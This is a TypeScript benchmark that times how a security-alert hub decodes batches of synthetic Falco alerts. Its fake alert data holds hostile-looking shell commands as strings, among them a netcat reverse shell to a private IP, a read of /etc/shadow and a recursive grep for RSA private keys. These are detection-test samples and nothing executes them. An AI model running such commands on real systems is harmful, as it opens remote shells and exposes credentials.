/**
 * `npm run bench:hub-decode`: CPU time per alert of the hub's ingest thread on `POST /v1/alerts`
 * bodies shaped like bench:store's (batches of 1000 synthetic Falco alerts, `JSON.stringify` of their
 * wire form, ~950 bytes each), measured in a worker thread with the ingest thread's heap limits:
 *
 *   - general: the general path, `decodeAlertBatch` (JSON.parse, alertFromWire, encodeAlert) then
 *     `rowParams` — what the ingest thread did for every alert before the fast path;
 *   - fast: `decodeAlertParams`, body bytes straight to the SQLite writer's row parameters;
 *   - ingest: the fast path plus posting the parameters to another thread (their serialisation is
 *     the ingest thread's CPU too) — the ingest thread's whole work per body;
 *   - pretty: `decodeAlertParams` on pretty-printed bodies, which the fast path leaves to the general
 *     one alert by alert (the cost of the fallback).
 *
 * Each figure is the median of VIGIL_BENCH_HUB_ROUNDS rounds (default 9) over VIGIL_BENCH_HUB_BATCHES
 * bodies (default 40); the spread (min–max) is printed beside it. Ends with `BENCH` lines.
 */
import {
  MessageChannel,
  Worker,
  isMainThread,
  parentPort,
  workerData,
  type MessagePort,
} from 'node:worker_threads';
import { cpus, loadavg } from 'node:os';
import { decodeAlertBatch, decodeAlertParams } from '../src/hub/batch-decode.js';
import { INGEST_YOUNG_GENERATION_MB } from '../src/hub/ingest-decoder.js';
import { alertToWire } from '../src/hub/wire.js';
import type { Priority } from '../src/engine/rules/index.js';
import { rowParams } from '../src/store/sqlite/sql.js';
import type { StoredAlert } from '../src/store/store.js';
import { rng } from './synthetic-stream.js';

const BATCHES = Number(process.env.VIGIL_BENCH_HUB_BATCHES ?? 40);
const ROUNDS = Number(process.env.VIGIL_BENCH_HUB_ROUNDS ?? 9);
const BATCH = 1000;

// Alerts shaped like bench/store.ts's: the same fields, sizes and mix of syscall and audit alerts.
const RULES: { name: string; priority: Priority; tags: string[]; audit: boolean; text: string }[] = [
  {
    name: 'Terminal shell in container',
    priority: 'NOTICE',
    tags: ['maturity_stable', 'container', 'shell', 'mitre_execution', 'T1059'],
    audit: false,
    text: 'A shell was spawned in a container with an attached terminal',
  },
  {
    name: 'Read sensitive file untrusted',
    priority: 'WARNING',
    tags: ['maturity_stable', 'host', 'container', 'filesystem', 'mitre_credential_access', 'T1555'],
    audit: false,
    text: 'Sensitive file opened for reading by non-trusted program',
  },
  {
    name: 'Contact K8S API Server From Container',
    priority: 'NOTICE',
    tags: ['maturity_stable', 'container', 'network', 'k8s', 'mitre_discovery', 'T1565'],
    audit: false,
    text: 'Unexpected connection to K8s API Server from container',
  },
  {
    name: 'Attach/Exec Pod',
    priority: 'NOTICE',
    tags: ['k8s'],
    audit: true,
    text: 'Attach/Exec to pod',
  },
];
const WEIGHTS = [30, 20, 12, 8];
const NAMESPACES = ['default', 'kube-system', 'payments', 'checkout', 'monitoring', 'ingress-nginx', 'data'];
const IMAGES = ['nginx', 'redis', 'postgres', 'node', 'python', 'busybox', 'envoy', 'fluent-bit'];
const COMMANDS = [
  'bash -i',
  'cat /etc/shadow',
  'nc -e /bin/sh 10.0.0.9 4444',
  'grep -r BEGIN RSA /home',
  'curl -s https://10.96.0.1:443/api',
  'tee -a /etc/hosts',
];

function makeAlerts(from: number, count: number): StoredAlert[] {
  const r = rng(1_000_003 + from);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(r() * xs.length)]!;
  const total = WEIGHTS.reduce((a, b) => a + b, 0);
  const out: StoredAlert[] = [];
  for (let k = 0; k < count; k++) {
    const i = from + k;
    let x = r() * total;
    const spec = RULES[WEIGHTS.findIndex((w) => (x -= w) < 0)] ?? RULES[0]!;
    const host = `ip-10-0-${i % 3}-${10 + (i % 20)}.ec2.internal`;
    const time = 1_732_000_000_000_000_000n + BigInt(i) * 3_024_000_000n + BigInt(Math.floor(r() * 1000));
    const c = Math.floor(r() * 300);
    const cid = (0x3ad7b26ded6dn + BigInt(c) * 7919n).toString(16).slice(0, 12);
    const cname = `${IMAGES[c % IMAGES.length]}-${c}`;
    const ns = NAMESPACES[c % NAMESPACES.length]!;
    const user = r() < 0.7 ? 'root' : 'app';
    let fields: Record<string, unknown>;
    let output: string;
    if (!spec.audit) {
      const cmd = pick(COMMANDS);
      const bin = cmd.split(' ')[0]!;
      const inContainer = r() < 0.85;
      fields = {
        'evt.type': spec.tags.includes('network') ? 'connect' : 'openat',
        'user.name': user,
        'user.loginuid': -1,
        'proc.cmdline': cmd,
        'proc.pid': 1000 + Math.floor(r() * 60000),
        'proc.exepath': `/usr/bin/${bin}`,
        'proc.pname': r() < 0.5 ? 'runc' : 'containerd-shim',
        'fd.name': spec.tags.includes('filesystem') ? '/etc/shadow' : null,
        'container.id': inContainer ? cid : 'host',
        'container.name': inContainer ? cname : 'host',
        'container.image.repository': inContainer
          ? `registry.example/${IMAGES[c % IMAGES.length]}:1.${c % 7}`
          : null,
        'k8s.ns.name': inContainer ? ns : null,
        'k8s.pod.name': inContainer ? `${cname}-7d9f8b6c5-${(i % 97).toString(36)}x` : null,
        'evt.rawtime': time,
      };
      output = `${spec.text} (evt_type=${String(fields['evt.type'])} user=${user} user_loginuid=-1 process=${bin} proc_exepath=/usr/bin/${bin} parent=${String(fields['proc.pname'])} command=${cmd} terminal=34816 container_id=${String(fields['container.id'])} container_name=${String(fields['container.name'])} k8s_ns=${inContainer ? ns : '<NA>'} k8s_pod_name=${String(fields['k8s.pod.name'] ?? '<NA>')})`;
    } else {
      fields = {
        'ka.user.name': r() < 0.5 ? 'system:serviceaccount:ci:deployer' : 'alice@example.com',
        'ka.verb': ['create', 'delete', 'get'][i % 3],
        'ka.target.resource': 'pods',
        'ka.target.namespace': ns,
        'ka.target.name': `${cname}-7d9f8b6c5-${(i % 97).toString(36)}x`,
        'ka.uri': `/api/v1/namespaces/${ns}/pods/${cname}/exec?command=sh`,
        'ka.response.code': '101',
      };
      output = `${spec.text} (user=${String(fields['ka.user.name'])} pod=${String(fields['ka.target.name'])} ns=${ns} action=${String(fields['ka.uri'])})`;
    }
    out.push({
      id: `${host}:b1:${i.toString().padStart(9, '0')}`,
      rule: spec.name,
      priority: spec.priority,
      source: spec.audit ? 'k8s_audit' : 'syscall',
      time,
      output,
      outputFields: fields,
      tags: spec.tags,
      hostname: host,
    });
  }
  return out;
}

interface Figure {
  name: string;
  median: number;
  min: number;
  max: number;
}

/** µs per alert of `work` over every body, ROUNDS times (after one warm-up round). */
function measure(name: string, bodies: Buffer[], work: (body: Buffer) => void): Figure {
  for (const b of bodies) work(b);
  const per: number[] = [];
  for (let round = 0; round < ROUNDS; round++) {
    const t0 = process.hrtime.bigint();
    for (const b of bodies) work(b);
    per.push(Number(process.hrtime.bigint() - t0) / 1e3 / (bodies.length * BATCH));
  }
  per.sort((a, b) => a - b);
  return { name, median: per[Math.floor(per.length / 2)]!, min: per[0]!, max: per.at(-1)! };
}

function runInWorker(port: MessagePort): Figure[] {
  const bodies: Buffer[] = [];
  const pretty: Buffer[] = [];
  for (let k = 0; k < BATCHES; k++) {
    const alerts = makeAlerts(k * BATCH, BATCH).map(alertToWire);
    bodies.push(Buffer.from(JSON.stringify({ alerts })));
    if (k < BATCHES / 4) pretty.push(Buffer.from(JSON.stringify({ alerts }, null, 1)));
  }
  const check = decodeAlertParams(bodies[0]!, BATCH);
  if (!check.ok || check.rows !== BATCH) throw new Error('the bodies do not decode');
  return [
    measure('general', bodies, (b) => {
      const d = decodeAlertBatch(b, BATCH);
      const params: unknown[] = [];
      if (d.ok) for (const r of d.rows) rowParams(r, params);
    }),
    measure('fast', bodies, (b) => void decodeAlertParams(b, BATCH)),
    measure('ingest', bodies, (b) => {
      const d = decodeAlertParams(b, BATCH);
      if (d.ok) port.postMessage({ kind: 'insert', id: 1, params: d.params, rows: d.rows });
    }),
    measure('pretty', pretty, (b) => void decodeAlertParams(b, BATCH)),
  ];
}

if (!isMainThread && (workerData as { hubDecodeBench?: boolean } | null)?.hubDecodeBench) {
  parentPort!.once('message', (port: MessagePort) => {
    parentPort!.postMessage(runInWorker(port));
  });
} else if (isMainThread) {
  // The receiving end stands for the SQLite writer thread: it takes (deserialises) and drops them.
  const { port1, port2 } = new MessageChannel();
  let received = 0;
  port1.on('message', () => void received++);
  const worker = new Worker(new URL(import.meta.url), {
    workerData: { hubDecodeBench: true },
    execArgv: [],
    resourceLimits: { maxYoungGenerationSizeMb: INGEST_YOUNG_GENERATION_MB },
  });
  worker.postMessage(port2, [port2]);
  const figures = await new Promise<Figure[]>((resolve, reject) => {
    worker.once('message', resolve);
    worker.once('error', reject);
  });
  await worker.terminate();
  port1.close();
  const load = loadavg()
    .map((l) => l.toFixed(2))
    .join(' / ');
  console.log(
    `hub ingest decode, µs per alert (${BATCHES} bodies of ${BATCH} alerts, median of ${ROUNDS} rounds; ` +
      `${cpus()[0]?.model ?? 'unknown CPU'}, ${cpus().length} cores, load ${load}; ${received} messages taken)`,
  );
  for (const f of figures) {
    console.log(
      `  ${f.name.padEnd(8)} ${f.median.toFixed(2).padStart(6)}   (min ${f.min.toFixed(2)}, max ${f.max.toFixed(2)})`,
    );
  }
  for (const f of figures) console.log(`BENCH hub_decode_${f.name}_us_per_alert ${f.median.toFixed(2)} µs`);
}
